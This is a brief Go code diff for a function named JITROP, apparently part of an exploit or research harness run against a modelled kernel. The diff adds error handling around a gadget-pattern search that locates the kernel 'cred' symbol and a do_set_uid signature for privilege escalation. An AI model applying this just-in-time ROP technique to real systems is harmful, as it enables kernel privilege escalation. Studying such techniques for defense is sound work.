@@ -167,7 +167,12 @@ func JITROP(target *kernel.Kernel) Result {
 	// Step 3: locate the privilege-escalation target and a gadget.
 	res.Stage = "gadget-search"
 	credAddr := target.Sym("cred")
-	hits := FindPattern(code, MovR8ImmPattern(credAddr))
+	pat, err := MovR8ImmPattern(credAddr)
+	if err != nil {
+		res.Detail = err.Error()
+		return res
+	}
+	hits := FindPattern(code, pat)
 	if len(hits) == 0 {
 		res.Detail = "do_set_uid signature not found in harvested code"
 		return res
